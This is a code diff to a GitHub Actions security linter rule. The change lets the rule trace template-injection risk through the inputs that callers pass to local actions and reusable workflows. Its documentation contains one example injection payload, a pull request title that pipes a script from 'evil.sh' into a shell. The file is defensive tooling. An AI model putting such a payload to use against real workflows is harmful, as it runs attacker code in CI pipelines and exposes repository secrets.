@@ -1,7 +1,7 @@
 import { RUNNER_ENV, normalizeContextPath } from '../knowledge/contexts';
 import { codeSinkFor, type SinkLanguage } from '../knowledge/code-sinks';
 import { parseShell } from '../knowledge/shell';
-import { assessSite, scopeOf, singleContext, type Scope } from '../knowledge/taint';
+import { assessSite, scopeOf, singleContext, type LeafVerdict, type Scope, type Verdict } from '../knowledge/taint';
 import type { ExpressionSite, ParsedFile } from '../parse/document';
 import { parseUses } from '../parse/uses';
 import { stepKeysStart, type JobView, type StepView } from '../parse/views';
@@ -9,7 +9,12 @@ import { isAlias, type Node } from 'yaml';
 import { editsKeepYamlValid } from '../fixes/verify';
 import { asMap, scalarText, type Entry } from '../parse/yaml-nodes';
 import type { Rule } from './types';
-import type { Fix, OffsetEdit } from '../findings';
+import type { FindingReport, Fix, OffsetEdit, RelatedSpan } from '../findings';
+import { AttachedCache, attachmentsOf } from '../parse/attached-cache';
+import type { Span } from '../parse/text';
+import { viewValue, type WorkspaceView } from '../views';
+import { callerInputVerdict } from './support/caller-inputs';
+import { describeCaller, resolveLocalUses, workspacePath } from './support/callers';
 
 interface Sink {
   kind: 'run' | 'input';
@@ -72,30 +77,23 @@ export const templateInjection: Rule = {
   confidence: 'high',
   persona: 'regular',
   online: false,
+  reads: ['workspace'],
   docs: {
     summary:
       'A `${{ }}` expression whose value someone else chooses is pasted into a `run:` script or into an input that an action runs as code, before the shell or interpreter reads it.',
     why: 'Expressions are substituted into the script text before it runs, so a pull request title such as `"; curl evil.sh | sh; #` becomes a command. Ultralytics (2024) put `github.head_ref` into a composite action\'s `run:` under `pull_request_target`; Grafana (2025) put a branch name into `actions/github-script`; Nx (2025) put a pull request title into a bash heredoc and lost its npm token; elementary-data (2026) expanded an `issue_comment` body.',
     fix: 'Pass the value through an environment variable: add `NAME: ${{ <expression> }}` to the step\'s `env:` and use `"$NAME"` (bash), `$env:NAME` (PowerShell), `%NAME%` (cmd) or `process.env.NAME` (github-script). The quick fix does this for single-context expressions.',
   },
-  check({ file, report }) {
-    const kind = file.workflow ? 'workflow' : 'action';
-    for (const site of file.expressions) {
-      if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
-      // Only a step's `run:` or one of its `with:` inputs can be a sink (see sinkOf): the rest is skipped
-      // before its scope is looked up.
-      const path = site.path;
-      const base = stepKeysStart(path, kind);
-      if (base === -1 || (!(path.length === base + 1 && path[base] === 'run') && !(path.length === base + 2 && path[base] === 'with')))
-        continue;
-      const scope = scopeOf(file, path);
-      const sink = sinkOf(site, scope, base);
-      if (!sink) continue;
-      const leaves = assessSite(site, scope);
-      if (leaves.length === 0) continue;
+  check({ file, report, workspace }) {
+    const space = viewValue(workspace);
+    for (const { site, scope, sink, leaves } of sinkLeaves(file)) {
       const single = singleContext(site);
       for (const leaf of leaves) {
-        const { verdict } = leaf;
+        let { verdict } = leaf;
+        let related: RelatedSpan[] | undefined;
+        // An input of a local action or reusable workflow is as dangerous as what its callers pass.
+        const fromCallers = space ? inputFromCallers(space, file, leaf.path) : null;
+        if (fromCallers) ({ verdict, related } = fromCallers);
         const step = scope.step;
         const canMove = single !== null && leaves.length === 1 && step !== null && step !== undefined;
         // The fix verifies itself by re-parsing the edited step: computed only when someone asks for it.
@@ -118,11 +116,13 @@ export const templateInjection: Rule = {
           severity: verdict.severity,
           confidence: verdict.confidence,
           persona: verdict.persona,
+          ...(related ? { related } : {}),
           fixes,
         });
       }
     }
     reportAliasedSinks(file, report);
+    if (space) reportCallsPassingUntrustedText(file, space, report);
   },
 };
 
@@ -182,6 +182,158 @@ function reportAliasedSinks(file: ParsedFile, report: Parameters<Rule['check']>[
           });
         }
       }
+    }
+  }
+}
+
+interface SinkLeaves {
+  site: ExpressionSite;
+  scope: Scope;
+  sink: Sink;
+  leaves: LeafVerdict[];
+}
+
+/** Every expression of the file in a code sink, with the values that reach it. */
+function* sinkLeaves(file: ParsedFile): Generator<SinkLeaves> {
+  const kind = file.workflow ? 'workflow' : 'action';
+  for (const site of file.expressions) {
+    if (!site.occurrence.terminated || !site.occurrence.parsed.ast) continue;
+    // Only a step's `run:` or one of its `with:` inputs can be a sink (see sinkOf): the rest is skipped
+    // before its scope is looked up.
+    const path = site.path;
+    const base = stepKeysStart(path, kind);
+    if (base === -1 || (!(path.length === base + 1 && path[base] === 'run') && !(path.length === base + 2 && path[base] === 'with')))
+      continue;
+    const scope = scopeOf(file, path);
+    const sink = sinkOf(site, scope, base);
+    if (!sink) continue;
+    const leaves = assessSite(site, scope);
+    if (leaves.length > 0) yield { site, scope, sink, leaves };
+  }
+}
+
+// ---------------------------------------------------------------------------------------------------
+// Across files: inputs of local actions and reusable workflows, judged by what their callers pass.
+
+/** The input a context path reads (`inputs.tag` → `tag`), or null. */
+function inputName(path: string): string | null {
+  const normalized = normalizeContextPath(path);
+  if (!normalized.startsWith('inputs.')) return null;
+  const name = normalized.slice('inputs.'.length);
+  return name === '' || name === '*' || name.includes('.') ? null : name;
+}
+
+/**
+ * Whether the callers seen in the workspace are all the callers that count: an action under `.github/`
+ * (where a repository keeps the actions only its own workflows use), or a reusable workflow. An action
+ * elsewhere (the repository root, a subfolder) may be published: its callers are everyone.
+ */
+function callersAreKnown(space: WorkspaceView, file: ParsedFile): boolean {
+  if (file.workflow) return true;
+  const path = workspacePath(space, file);
+  return path !== null && path.startsWith('.github/');
+}
+
+/** The verdict on `inputs.<name>` from the callers of the file, or null to keep the file-local one. */
+function inputFromCallers(space: WorkspaceView, file: ParsedFile, path: string): { verdict: Verdict; related?: RelatedSpan[] } | null {
+  const name = inputName(path);
+  if (name === null) return null;
+  const workflow = file.workflow;
+  if (workflow) {
+    if (!workflow.hasTrigger('workflow_call')) return null;
+    // Also typed in by whoever dispatches it: the file-local verdict stays.
+    if (
+      workflow
+        .trigger('workflow_dispatch')
+        ?.config?.child('inputs')
+        .entries.some((entry) => entry.key.toLowerCase() === name)
+    )
+      return null;
+  } else if (!file.action) return null;
+  const found = callerInputVerdict(space, file, name);
+  if (!found) return null;
+  const { verdict, caller, span, passed } = found;
+  if (verdict && caller && span && passed) {
+    return {
+      verdict: {
+        ...verdict,
+        reason: `input \`${name}\`, which ${describeCaller(caller)} fills with \`${passed}\` (there: ${verdict.reason})`,
+      },
+      related: [{ span, message: `\`${passed}\` passed as input \`${name}\` here`, file: caller.file }],
+    };
+  }
+  if (!callersAreKnown(space, file)) return null;
+  const count = found.callers;
+  return {
+    verdict: {
+      severity: 'low',
+      confidence: 'medium',
+      persona: 'pedantic',
+      capability: 'writer',
+      reason: `input \`${name}\`, which ${count === 1 ? 'the only caller' : `each of the ${count} callers`} in this repository fills with a literal or a value only maintainers choose (a caller outside the repository is not seen)`,
+    },
+  };
+}
+
+/** The code sinks of a file that expand an input, by input name (lower case). */
+function inputSinks(file: ParsedFile): Map<string, { span: Span; label: string }[]> {
+  let sinks = INPUT_SINKS.get(file);
+  if (sinks) return sinks;
+  sinks = new Map();
+  for (const { sink, leaves } of sinkLeaves(file)) {
+    for (const leaf of leaves) {
+      const name = inputName(leaf.path);
+      if (name === null) continue;
+      const list = sinks.get(name) ?? [];
+      if (list.length === 0) sinks.set(name, list);
+      list.push({ span: { start: leaf.start, end: leaf.end }, label: sink.label });
+    }
+  }
+  INPUT_SINKS.set(file, sinks);
+  return sinks;
+}
+const INPUT_SINKS = new AttachedCache<ParsedFile, Map<string, { span: Span; label: string }[]>>('input-sinks', attachmentsOf);
+
+/**
+ * On a caller's `uses:` line: a `with:` value someone else chooses, given to a local action or reusable
+ * workflow of the workspace that expands that input into code.
+ */
+function reportCallsPassingUntrustedText(file: ParsedFile, space: WorkspaceView, report: (finding: FindingReport) => void): void {
+  for (const site of file.uses) {
+    if (site.reference.kind !== 'local' && site.reference.kind !== 'self') continue;
+    const target = resolveLocalUses(space, site.value, file);
+    if (!target || target.file === file) continue;
+    const sinks = inputSinks(target.file);
+    if (sinks.size === 0) continue;
+    const withMap = site.step ? site.step.with : site.job?.with;
+    if (!withMap) continue;
+    for (const entry of withMap.entries) {
+      const targets = sinks.get(entry.key.toLowerCase());
+      if (!targets) continue;
+      let best: LeafVerdict | null = null;
+      for (const expression of file.expressions) {
+        const occurrence = expression.occurrence;
+        if (occurrence.start < entry.valueSpan.start || occurrence.end > entry.valueSpan.end) continue;
+        for (const leaf of assessSite(expression, scopeOf(file, expression.path))) {
+          // A value passed on from this file's own inputs is judged in the file that expands it (with this file's callers).
+          if (inputName(leaf.path) !== null) continue;
+          if (leaf.verdict.capability !== 'arbitrary' || leaf.verdict.severity !== 'high') continue;
+          if (!best) best = leaf;
+        }
+      }
+      if (!best) continue;
+      const sink = targets[0];
+      report({
+        span: site.entry.valueSpan,
+        message: `\`${best.path}\` is passed as input \`${entry.key}\` to \`${target.path}\`, which expands it into ${sink.label}: ${best.verdict.reason}. Pass it through \`env:\` in the called file instead`,
+        severity: best.verdict.severity,
+        confidence: best.verdict.confidence,
+        persona: best.verdict.persona,
+        related: [
+          { span: { start: best.start, end: best.end }, message: `\`${best.path}\` passed here` },
+          { span: sink.span, message: `\`inputs.${entry.key}\` expanded here`, file: target.file },
+        ],
+      });
     }
   }
 }
